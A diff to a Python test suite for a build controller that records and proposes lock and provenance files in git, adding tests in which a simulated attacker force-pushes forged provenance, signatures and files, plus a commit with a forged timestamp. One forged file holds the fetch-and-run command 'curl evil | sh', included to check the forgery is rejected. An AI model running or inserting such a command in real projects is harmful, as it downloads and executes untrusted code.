@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Mapping
+import re
+import subprocess
+from collections.abc import Callable, Mapping
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -144,3 +147,57 @@ def test_without_signatures_what_another_job_proposed_stays_byte_for_byte(settle
     settled.clock.advance(hours=3)
     settled.controller("a-third-job").reconcile()
     assert git(settled.origin, "rev-parse", PROPOSAL) == both, "proposing the same again pushes nothing"
+
+
+Forgery = Callable[[dict[str, Any]], Mapping[str, str | None]]
+"""From what is honestly proposed of web to the files that somebody puts into the proposal beside that."""
+
+
+@pytest.mark.parametrize(
+    "forgery",
+    [
+        lambda lock: {f"state/{lock['builds'][0]['provenance']}": "{}\n"},
+        lambda lock: {f"state/{lock['builds'][1]['provenance']}": "{}\n"},
+        lambda lock: {f"state/{lock['builds'][0]['provenance']}.sig": "mine\n"},
+        lambda lock: {f"state/{lock['builds'][1]['inventory']['sbom']}": None},
+        lambda _lock: {"state/provenance/web/20261122T101530Z-0000000.intoto.json": "{}\n"},
+        lambda _lock: {"state/notes/web/setup.sh": "curl evil | sh\n"},
+    ],
+)
+def test_without_signatures_no_file_is_proposed_beside_what_we_recorded(settled: World, forgery: Forgery) -> None:
+    proposes(settled, PROPOSING, "web", "tools")
+    settled.controller().reconcile("web")
+    forge_beside(settled, forgery(json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))))
+
+    settled.controller("another-job").reconcile("tools")
+
+    assert [path for path in proposed(settled) if "web" in path] == []
+
+
+def forge_beside(world: World, files: Mapping[str, str | None]) -> None:
+    """Somebody makes the honest proposal anew, in one commit under our name, with these files."""
+    folder = world.root / "attacker"
+    git(world.root, "clone", "--quiet", "--branch", PROPOSAL, "origin.git", folder.name)
+    for path, content in files.items():
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(content) if content is not None else (folder / path).unlink()
+    git(folder, "add", "--all")
+    git(folder, *AUTHOR, "commit", "--quiet", "--amend", "--no-edit", "--reset-author")
+    git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")
+
+
+def test_the_time_of_a_proposal_that_no_calendar_has_stops_no_run(settled: World) -> None:
+    # Given an honest proposal whose commit somebody made again at another time, and main has moved on
+    proposes(settled, PROPOSING, "web", "tools")
+    settled.controller().reconcile("web")
+    honest = git(settled.origin, "cat-file", "commit", PROPOSAL)
+    raw = re.sub(r"^(committer .*>) \d+", r"\1 99999999999999", honest, flags=re.MULTILINE)
+    command = ["git", "hash-object", "-t", "commit", "-w", "--stdin"]
+    made = subprocess.run(command, cwd=settled.origin, input=f"{raw}\n".encode(), capture_output=True, check=True)
+    git(settled.origin, "update-ref", f"refs/heads/{PROPOSAL}", made.stdout.decode().strip())
+    settled.commit({"README.md": "Images.\n"})
+
+    # When another job records, then both images are proposed, at the time of that
+    assert statuses(settled.controller("another-job").reconcile("tools")) == {"tools": "built"}
+    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))
+    assert git(settled.origin, "log", "-1", "--format=%cs", PROPOSAL) == f"{settled.clock.moment:%Y-%m-%d}"
